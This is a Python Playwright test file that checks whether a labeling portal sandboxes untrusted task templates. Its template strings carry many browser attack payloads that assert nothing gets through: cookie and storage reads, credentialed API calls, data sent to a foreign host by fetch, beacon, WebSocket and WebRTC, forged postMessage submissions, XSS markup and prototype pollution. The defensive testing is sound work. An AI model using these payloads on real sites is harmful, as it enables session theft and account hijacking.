"""A template that wants more than its task gets nothing."""

import json
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, suppress
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.portal.pages_support import Labeler, Site

HOSTILE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><crowd-text-area name="note" label="Note"></crowd-text-area></crowd-form>
<base href="%(foreign)s/" target="_top">
<meta http-equiv="refresh" content="1; url=%(foreign)s/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<img src="%(foreign)s/picture.png" srcset="%(foreign)s/picture2.png 2x">
<picture><source srcset="%(foreign)s/source.png"><img alt=""></picture>
<video src="%(foreign)s/video" poster="%(foreign)s/poster"><track src="%(foreign)s/track"></video>
<audio src="%(foreign)s/audio" autoplay></audio>
<object data="%(foreign)s/object"></object><embed src="%(foreign)s/embed">
<svg><image href="%(foreign)s/svg-image"/><use href="%(foreign)s/svg-use#a"/></svg>
<input type="image" src="%(foreign)s/input"><p>text</p>
<link rel="stylesheet" href="%(foreign)s/style.css">
<link rel="preconnect" href="%(foreign)s/"><link rel="dns-prefetch" href="//dns.evil.test">
<link rel="prefetch" href="%(foreign)s/prefetch"><link rel="prerender" href="%(foreign)s/prerender">
<link rel="preload" as="image" href="%(foreign)s/preload">
<link rel="modulepreload" href="%(foreign)s/modulepreload">
<link rel="icon" href="%(foreign)s/icon"><link rel="manifest" href="%(foreign)s/manifest">
<style>
@import "%(foreign)s/import.css";
@font-face { font-family: f; src: url("%(foreign)s/font") }
body { background: url("%(foreign)s/background"); cursor: url("%(foreign)s/cursor"), auto }
p { font-family: f; border-image: url("%(foreign)s/border") }
</style>
<script src="%(foreign)s/script.js"></script>
<script type="module">import "%(foreign)s/module.js";</script>
<script type="speculationrules">{"prefetch": [{"urls": ["%(foreign)s/speculation"],
  "eagerness": "immediate"}]}</script>
<iframe src="%(foreign)s/frame"></iframe>
<iframe src="data:text/html,<script>parent.parent.document.title = 1</script>"></iframe>
<iframe srcdoc="<script>
  new Image().src = '%(foreign)s/nested';
  top.postMessage({ type: 'submit', answer: { forged: 1 } }, '*');
</script>"></iframe>
<form id="out" action="%(foreign)s/form" method="post"><input name="a"></form>
<form id="top" action="%(foreign)s/form-top" target="_top"></form>
<form id="portal" action="%(portal)s/logout" method="post" target="_top"></form>
<a id="new" href="%(foreign)s/new" target="_blank" ping="%(foreign)s/ping">new</a>
<a id="javascript" href="javascript:top.document.title = 1" target="_top">run</a>
<a id="download" download="virus.exe" href="data:application/octet-stream,x">download</a>
<script>
const wait = (what) => Promise.race([what, new Promise((_, no) => setTimeout(no, 1000))]);
const tries = {
  cookies: () => document.cookie,
  cookieStore: () => cookieStore.getAll(),
  storage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  database: () => new Promise((yes, no) => {
    const request = indexedDB.open("x");
    request.onsuccess = yes;
    request.onerror = no;
  }),
  caches: () => caches.keys(),
  files: () => navigator.storage.getDirectory(),
  serviceWorker: () => navigator.serviceWorker.register("%(portal)s/assets/crowd-html-elements.js"),
  parentDocument: () => parent.document.title,
  parentFrame: () => frameElement.id,
  topDocument: () => top.document.cookie,
  parentStorage: () => parent.localStorage.length,
  parentFunction: () => parent.fetch("/api/me"),
  topNavigation: () => { top.location.href = "%(foreign)s/top"; return "left"; },
  topScript: () => { top.location.href = "javascript:alert(1)"; return "left"; },
  siblings: () => {
    for (let index = 0; index < parent.frames.length; index += 1) {
      if (parent.frames[index] !== window) parent.frames[index].location = "%(foreign)s/sibling";
    }
    throw new Error("nobody to ask");
  },
  popup: () => String(open("%(foreign)s/popup")),
  workerApi: () => fetch("%(portal)s/api/me", { credentials: "include" }).then((r) => r.text()),
  workerApiChange: () => fetch("%(portal)s/api/jobs/%(job)s/tasks", {
    method: "POST", credentials: "include", body: "{}",
    headers: { "content-type": "application/json", "x-groundwork-request": "1" },
  }).then((r) => r.text()),
  foreign: () => fetch("%(foreign)s/fetch").then((r) => r.text()),
  foreignOpaque: () => fetch("%(foreign)s/opaque", { mode: "no-cors", method: "POST", body: "x" }),
  keepalive: () => fetch("%(foreign)s/keepalive", { keepalive: true }),
  request: () => new Promise((yes, no) => {
    const request = new XMLHttpRequest();
    request.onload = yes;
    request.onerror = no;
    request.open("GET", "%(foreign)s/request");
    request.send();
  }),
  beacon: () => navigator.sendBeacon("%(foreign)s/beacon", "x"),
  events: () => new Promise((yes, no) => {
    const events = new EventSource("%(foreign)s/events");
    events.onopen = yes;
    events.onerror = no;
  }),
  transport: () => new WebTransport("https://%(outside)s/transport").ready,
  worker: () => new Promise((yes, no) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage('ran')"])));
    worker.onmessage = (said) => yes(said.data);
    worker.onerror = () => no(new Error("refused"));
  }),
  sharedWorker: () => new Promise((yes, no) => {
    new SharedWorker("data:text/javascript,onconnect=(e)=>e.ports[0].postMessage(1)").port
      .onmessage = yes;
    setTimeout(no, 500);
  }),
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket("%(foreign)s/socket".replace("http", "ws"));
    socket.onopen = () => yes("open");
    socket.onerror = () => no(new Error("refused"));
  }),
  evaluated: () => eval("1 + 1"),
  imported: () => import("%(foreign)s/imported.js"),
  clipboard: () => navigator.clipboard.readText(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  place: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
  fullscreen: () => document.documentElement.requestFullscreen(),
  question: () => confirm("Your password?") ? "answered" : Promise.reject(),
};
(async () => {
  const results = {};
  // What the portal's own tabs say to each other, in its own origin.
  const channel = new BroadcastChannel("groundwork.tasks");
  channel.onmessage = () => { results.channel = "got a message"; };
  const lease = location.pathname.split("/")[2];
  channel.postMessage({ type: "taken-over", lease, tab: "forged" });
  const peers = new RTCPeerConnection({ iceServers: [
    { urls: "stun:%(outside)s" },
    { urls: "turn:%(outside)s?transport=tcp", username: "secret", credential: "secret" },
  ] });
  peers.createDataChannel("x");
  await peers.setLocalDescription(await peers.createOffer());
  for (const [name, attempt] of Object.entries(tries)) {
    try { results[name] = "got " + await wait(attempt()); } catch { results[name] = "refused"; }
  }
  for (const form of ["out", "top", "portal"]) document.getElementById(form).submit();
  for (const link of ["new", "javascript", "download"]) document.getElementById(link).click();
  // Not of the agreed kinds, or pretending to be the worker.
  parent.postMessage({ type: "submit" }, "*");
  parent.postMessage({ type: "submit", answer: [1] }, "*");
  parent.postMessage({ type: "draft", draft: "x" }, "*");
  parent.postMessage({ type: "start", draft: null, locale: "en", visible: true }, "*");
  parent.postMessage("noise", "*");
  console.log(JSON.stringify({ results }));
  setTimeout(() => { location.href = "%(foreign)s/self"; }, 300);
})();
</script>
"""

# Answers by itself as soon as it is loaded ahead of its time, and has the other frame answer.
EAGER = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><input name="note" value="eager"></crowd-form>
<script>
addEventListener("message", ({ data }) => {
  if (data.type !== "start" || data.visible) return;
  const submit = { type: "submit", answer: { note: "forged" } };
  parent.postMessage(submit, "*");
  for (let index = 0; index < parent.frames.length; index += 1) {
    parent.frames[index].postMessage({ type: "request-submit" }, "*");
  }
  console.log("ahead");
});
</script>
"""


MARKUP = "<img src=x onerror='top.pwned=1'><script>top.pwned=1</script>"
# Says in the portal's name what only its own text may say.
TALKATIVE = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form><crowd-image-classifier name="kind" header="%(escaped)s" src="data:image/gif;base64,x"
  categories='["%(escaped)s"]'></crowd-image-classifier></crowd-form>
<script>
const markup = `%(markup)s`;
const say = (message) => parent.postMessage(message, "*");
say({ type: "ready", elements: [], unsupported: [markup] });
// After the elements' own.
setTimeout(() => {
  say({ type: "shortcuts", list: [{ keys: markup, does: markup }] });
  console.log("said");
}, 1000);
// Again and again: the element's own image fails, too, and the last one to say so is shown.
setInterval(() => say({ type: "image-error", src: markup, message: markup }), 300);
for (let index = 0; index < 50; index += 1) say({ type: "error", message: markup });
say({ type: "draft", draft: JSON.parse('{"__proto__": {"pwned": 1}}') });
say({ type: "settings", settings: JSON.parse('{"__proto__": {"pwned": 1}}') });
</script>
"""


@pytest.fixture
def foreign() -> Iterator[tuple[str, list[str]]]:
    """Another site, and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base's own name
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """A place that speaks no HTTP, by UDP and TCP, and how it was reached."""
    reached: list[str] = []
    with ExitStack() as stack:
        # Chromium asks servers for WebRTC from other interfaces than the loopback one.
        probe = stack.enter_context(closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)))
        host = "127.0.0.1"
        with suppress(OSError):
            probe.connect(("192.0.2.1", 9))
            host = probe.getsockname()[0]
        streams = stack.enter_context(closing(socket.create_server((host, 0))))
        address = streams.getsockname()
        packets = stack.enter_context(closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)))
        packets.bind(address)

        def listen(kind: str, wait: Callable[[], Any]) -> None:
            with suppress(OSError):
                while True:
                    wait()
                    reached.append(kind)

        for kind, wait in (("TCP", streams.accept), ("UDP", lambda: packets.recv(2000))):
            Thread(target=listen, args=(kind, wait), daemon=True).start()
        yield f"{host}:{address[1]}", reached


def results_at(page: Page, address: str) -> dict[str, str]:
    """Go somewhere, and wait for what the template says that it got."""
    with page.expect_console_message(
        lambda said: said.text.startswith('{"results":'), timeout=15_000
    ) as said:
        page.goto(address, wait_until="commit")
    results: dict[str, str] = json.loads(said.value.text)["results"]
    return results


def test_a_hostile_template_reaches_nothing(
    site: Site,
    labeler: Callable[[str], Labeler],
    foreign: tuple[str, list[str]],
    outside: tuple[str, list[str]],
) -> None:
    address, asked = foreign
    place, reached = outside
    other = site.job(1)
    names = {"foreign": address, "outside": place, "portal": site.url, "job": other}
    job = site.job(1, HOSTILE % names)
    ann = labeler("")
    happened: list[str] = []
    for event in ("dialog", "download", "popup"):
        ann.page.on(event, lambda _, event=event: happened.append(event))
    results = results_at(ann.page, f"{site.url}/jobs/{job}")
    got = {name: told for name, told in results.items() if told != "refused"}
    # These calls "work", and come to nothing: there is no window, the browser drops the beacon,
    # and the page stays where it is.
    without_effect = {"popup", "beacon", "topScript"}
    assert {name: told for name, told in got.items() if name not in without_effect} == {}
    assert got.get("popup", "got null") == "got null"
    ann.page.wait_for_timeout(2_500)
    assert (asked, reached, happened) == ([], [], [])
    assert [task for task in site.tasks(other) if task.leases] == []
    # Still signed in and at the task, which nobody submitted.
    expect(ann.page).to_have_url(f"{site.url}/jobs/{job}")
    expect(ann.page.get_by_role("heading", name="Draw boxes")).to_be_visible()
    expect(ann.page.locator("iframe")).to_have_count(1)
    assert ann.page.title() != "1"
    assert site.answers(job) == {}
    assert ann.page.evaluate("document.cookie") == ""
    assert ann.page.evaluate("fetch('/api/me').then((answer) => answer.status)") == 200
    # That it was refused is what the console says.
    ann.problems.clear()


def test_a_template_of_the_next_task_answers_nothing_before_it_is_seen(
    site: Site, labeler: Callable[[str], Labeler]
) -> None:
    job = site.job(2, EAGER)
    ann = labeler("")
    with ann.page.expect_console_message(lambda said: said.text == "ahead", timeout=15_000):
        ann.page.goto(f"{site.url}/jobs/{job}")
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        ann.page.wait_for_timeout(200)
        assert site.answers(job) == {}


def test_no_text_becomes_markup_in_the_portal(
    site: Site, labeler: Callable[[str], Labeler]
) -> None:
    words = {"markup": MARKUP.replace("</script>", "<\\/script>"), "escaped": escape(MARKUP)}
    told = {"TaskTitle": MARKUP, "TaskDescription": MARKUP}
    job = site.job(1, TALKATIVE % words, **told)
    ann = labeler("")
    page = ann.page
    expect(page.get_by_text(MARKUP).first).to_be_visible()
    with page.expect_console_message(lambda said: said.text == "said", timeout=15_000):
        page.goto(f"{site.url}/jobs/{job}")
    expect(page.locator(".task-title")).to_have_text(MARKUP)
    expect(page.locator(".task-description")).to_have_text(MARKUP)
    expect(page.locator(".task-note")).to_contain_text(MARKUP)
    expect(page.locator(".notice").first).to_contain_text(MARKUP)
    # Fifty messages do not bury the page.
    expect(page.locator(".notice")).to_have_count(4)
    page.get_by_role("button", name="Shortcuts").click()
    expect(page.get_by_role("dialog")).to_contain_text(MARKUP)
    assert page.locator("img").count() == 0
    assert page.locator("script:not([src])").count() == 0
    assert page.evaluate("[window.pwned, {}.pwned, Object.keys(Object.prototype)]") == [
        None,
        None,
        [],
    ]
    ann.problems.clear()


def test_a_frame_is_not_shown_by_itself(
    site: Site, labeler: Callable[[str], Labeler], foreign: tuple[str, list[str]]
) -> None:
    address, asked = foreign
    names = {"foreign": address, "outside": "127.0.0.1:9", "portal": site.url, "job": "x"}
    job = site.job(1, HOSTILE % names)
    ann = labeler("")
    held = ann.page.evaluate(
        """async (job) => (await fetch(`/api/jobs/${job}/tasks`, { method: "POST", body: "{}",
          headers: { "content-type": "application/json", "x-groundwork-request": "1" },
        })).json()""",
        job,
    )
    ann.page.goto(f"{site.url}/tasks/{held['lease']}/frame")
    expect(ann.page.locator("body")).to_have_text("This is a part of a task's page.")
    assert ann.page.locator("script").count() == 0
    ann.page.wait_for_timeout(300)
    assert asked == []
    ann.problems.clear()


def test_other_pages_cannot_be_framed(site: Site, labeler: Callable[[str], Labeler]) -> None:
    ann = labeler("")
    for path in ("/", "/jobs", "/signed-out", "/api/me"):
        headers = ann.page.request.get(site.url + path).headers
        assert headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
